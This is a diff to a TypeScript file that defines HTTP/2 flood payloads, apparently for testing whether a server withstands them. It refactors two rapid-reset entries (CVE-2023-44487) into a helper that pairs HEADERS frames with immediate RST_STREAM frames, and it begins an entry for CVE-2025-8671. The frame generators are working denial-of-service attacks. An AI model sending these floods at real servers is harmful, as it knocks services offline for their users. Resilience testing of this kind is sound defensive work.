@@ -25,7 +25,7 @@ export interface Http2Flood {
 }
 
 const WHOLE = FLAG.endHeaders | FLAG.endStream;
-const CALM = 11;
+const [INTERNAL_ERROR, CANCEL, CALM] = [2, 8, 11];
 const PER_ROUND = 200;
 
 function repeated(frame: Buffer, times: number = PER_ROUND): Buffer {
@@ -52,31 +52,23 @@ function bomb(host: string): Buffer {
   return Buffer.concat([http2Request(host), entry, Buffer.alloc(8_000, 0xbe)]);
 }
 
+/** Requests that are taken back with `code` as soon as they are made. */
+function rapidReset(name: string, code: number): Http2Flood {
+  const pair = (host: string, stream: number): Buffer[] => [
+    http2Frame(FRAME.headers, WHOLE, stream, http2Request(host)),
+    http2Frame(FRAME.reset, 0, stream, uint32(code)),
+  ];
+  return {
+    name,
+    part: (host, round) => Buffer.concat(streams(round).flatMap((stream) => pair(host, stream))),
+    rounds: 100,
+    goaway: [CALM],
+  };
+}
+
 export const HTTP2_FLOODS: readonly Http2Flood[] = [
-  {
-    name: 'rapid reset (CVE-2023-44487)',
-    part: (host, round) =>
-      Buffer.concat(
-        streams(round).flatMap((stream) => [
-          http2Frame(FRAME.headers, WHOLE, stream, http2Request(host)),
-          http2Frame(FRAME.reset, 0, stream, uint32(8)),
-        ]),
-      ),
-    rounds: 100,
-    goaway: [CALM],
-  },
-  {
-    name: 'rapid reset with another code',
-    part: (host, round) =>
-      Buffer.concat(
-        streams(round).flatMap((stream) => [
-          http2Frame(FRAME.headers, WHOLE, stream, http2Request(host)),
-          http2Frame(FRAME.reset, 0, stream, uint32(2)),
-        ]),
-      ),
-    rounds: 100,
-    goaway: [CALM],
-  },
+  rapidReset('rapid reset (CVE-2023-44487)', CANCEL),
+  rapidReset('rapid reset with another code', INTERNAL_ERROR),
   {
     name: 'resets the server is made to send (CVE-2025-8671): a window that overflows',
     part: (host, round) =>
